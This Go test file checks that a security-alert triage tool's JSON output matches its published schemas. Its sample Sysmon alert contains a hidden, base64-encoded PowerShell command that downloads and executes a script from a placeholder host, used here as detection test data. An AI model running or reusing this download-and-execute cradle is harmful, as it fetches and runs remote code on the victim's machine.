package cmd_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/jsonschema-go/jsonschema"

	"github.com/seed-959697dd/soc/cmd"
	"github.com/seed-959697dd/soc/internal/term"
)

var schemas = filepath.Join("..", "docs", "schema")

func readSchema(name string) (*jsonschema.Schema, error) {
	b, err := os.ReadFile(filepath.Join(schemas, name))
	if err != nil {
		return nil, err
	}
	var s jsonschema.Schema
	return &s, json.Unmarshal(b, &s)
}

// shipped resolves every schema under docs/schema, by kind.
func shipped(t *testing.T) map[string]*jsonschema.Resolved {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(schemas, "*.schema.json"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no schemas in %s: %v", schemas, err)
	}
	all := map[string]*jsonschema.Resolved{}
	for _, file := range files {
		s, err := readSchema(filepath.Base(file))
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		r, err := s.Resolve(&jsonschema.ResolveOptions{
			Loader: func(u *url.URL) (*jsonschema.Schema, error) { return readSchema(path.Base(u.Path)) },
		})
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		all[strings.TrimSuffix(filepath.Base(file), ".schema.json")] = r
	}
	return all
}

// run is one call of the program: its stdout, its stderr and its exit status.
func run(t *testing.T, stdin string, args ...string) (out, errs string, status int) {
	t.Helper()
	var stdout, stderr strings.Builder
	at := time.Date(2026, 3, 14, 12, 0, 0, 0, time.UTC)
	status = cmd.Main(context.Background(), args, cmd.World{
		IO:  term.IO{In: strings.NewReader(stdin), Out: &stdout, Err: &stderr, Width: 80},
		Env: func(string) string { return "" },
		Now: func() time.Time { return at },
	})
	return stdout.String(), stderr.String(), status
}

// check validates every line of out and counts the documents by kind.
func check(t *testing.T, all map[string]*jsonschema.Resolved, name, out string) map[string]int {
	t.Helper()
	kinds := map[string]int{}
	for line := range strings.Lines(out) {
		var doc map[string]any
		if err := json.Unmarshal([]byte(line), &doc); err != nil {
			t.Fatalf("%s: not a JSON document: %v: %.200s", name, err, line)
		}
		kind, _ := doc["kind"].(string)
		kinds[kind]++
		if s, ok := all[kind]; !ok {
			t.Errorf("%s: no schema for kind %q", name, kind)
		} else if err := s.Validate(doc); err != nil {
			t.Errorf("%s: %v\n%.600s", name, err, line)
		}
	}
	return kinds
}

const alerts = `{"_id":"w1","_source":{"timestamp":"2026-03-14T09:30:00.000+0000","rule":{"level":12,"description":"PowerShell spawned by Word","id":"92032","mitre":{"id":["T1059.001"]},"groups":["sysmon"]},"agent":{"id":"004","name":"ws-12","ip":"10.0.0.12"},"manager":{"name":"siem"},"data":{"srcip":"203.0.113.9","win":{"eventdata":{"commandLine":"powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGUAeABhAG0AcABsAGUALgBjAG8AbQAvAGEAJwApAA==","user":"alice"}}},"location":"EventChannel"}}
{"id":"g1","title":"Disk almost full","host":"fs-1","host":"fs-2","time":"2026-03-14T09:31:00Z"}
{"broken":
`

func TestEveryDocumentKeepsToItsSchema(t *testing.T) {
	t.Parallel()
	all := shipped(t)
	dir := t.TempDir()
	rejects := filepath.Join(dir, "rejects.ndjson")
	seen := map[string]int{}
	for _, args := range [][]string{
		{"triage", "--no-book", "--rejects", rejects},
		{"triage", "--parse"},
		{"triage", "--parse", "--raw"},
		{"triage", "--json", "--explain", "w1"},
		{"triage", "--json", "--output", "csv"},
		{"triage", "--json", "--formats"},
	} {
		out, _, _ := run(t, alerts, args...)
		for kind, n := range check(t, all, strings.Join(args, " "), out) {
			seen[kind] += n
		}
	}
	kept, err := os.ReadFile(rejects)
	if err != nil {
		t.Fatal(err)
	}
	if n := check(t, all, "--rejects", string(kept))["reject"]; n != 1 {
		t.Errorf("%d rejects kept, want 1", n)
	}
	for _, kind := range []string{"alert", "verdict", "reject", "summary", "error", "format"} {
		if seen[kind] == 0 {
			t.Errorf("no document of kind %s was printed: %v", kind, seen)
		}
	}
}

// A group beyond the ids of one document, and an input that ends in the middle.
func TestMembersAndGapsKeepToTheirSchemas(t *testing.T) {
	t.Parallel()
	all := shipped(t)
	var many strings.Builder
	for i := range 2500 {
		fmt.Fprintf(&many, `{"id":"a%d","title":"Port scan","rule_id":"7","host":"fw-1","time":"2026-03-14T09:00:%02d.%03dZ"}`+"\n", i, i/1000, i%1000)
	}
	out, _, status := run(t, many.String(), "triage", "--no-book")
	kinds := check(t, all, "2,500 alerts", out)
	if status != 0 || kinds["verdict"] != 1 || kinds["members"] != 2 {
		t.Errorf("status %d, documents %v", status, kinds)
	}
	file := filepath.Join(t.TempDir(), "cut.json.gz")
	if err := os.WriteFile(file, []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x01\xff"), 0o600); err != nil {
		t.Fatal(err)
	}
	out, _, _ = run(t, "", "triage", "--no-book", file)
	if kinds := check(t, all, "cut input", out); kinds["gap"] == 0 {
		t.Errorf("no gap for an input that is cut: %v", kinds)
	}
}

func TestEverySampleKeepsToTheSchemas(t *testing.T) {
	t.Parallel()
	all := shipped(t)
	root := filepath.Join("..", "testdata", "alert")
	err := filepath.WalkDir(root, func(file string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.Contains(d.Name(), "golden") {
			return err
		}
		out, _, _ := run(t, "", "triage", "--no-book", "--json", file)
		check(t, all, file, out)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestDecisionSchema(t *testing.T) {
	t.Parallel()
	decision := shipped(t)["decision"]
	rows := map[string]bool{
		`{"kind":"decision","version":1,"verdict":"v-1","disposition":"true_positive","certainty":"confirmed","by":"soc","at":"2026-03-14T12:00:00Z"}`:                   true,
		`{"kind":"decision","version":1,"alert_id":"a","disposition":"false_positive","certainty":"asserted","by":"soc","at":"2026-03-14T12:00:00Z","reason":"a test"}`:  true,
		`{"kind":"decision","version":1,"disposition":"true_positive","certainty":"confirmed","by":"soc","at":"2026-03-14T12:00:00Z"}`:                                   false,
		`{"kind":"decision","version":1,"verdict":"v-1","disposition":"benign","certainty":"confirmed","by":"soc","at":"2026-03-14T12:00:00Z"}`:                          false,
		`{"kind":"decision","version":1,"verdict":"v-1","disposition":"true_positive","certainty":"confirmed","by":"soc","at":"yesterday"}`:                              false,
		`{"kind":"decision","version":1,"verdict":"v-1","disposition":"true_positive","certainty":"confirmed","by":"soc","at":"2026-03-14T12:00:00Z","severity":"high"}`: false,
	}
	for doc, valid := range rows {
		var v map[string]any
		if err := json.Unmarshal([]byte(doc), &v); err != nil {
			t.Fatal(err)
		}
		if err := decision.Validate(v); (err == nil) != valid {
			t.Errorf("valid = %v, want %v: %s: %v", err == nil, valid, doc, err)
		}
	}
}
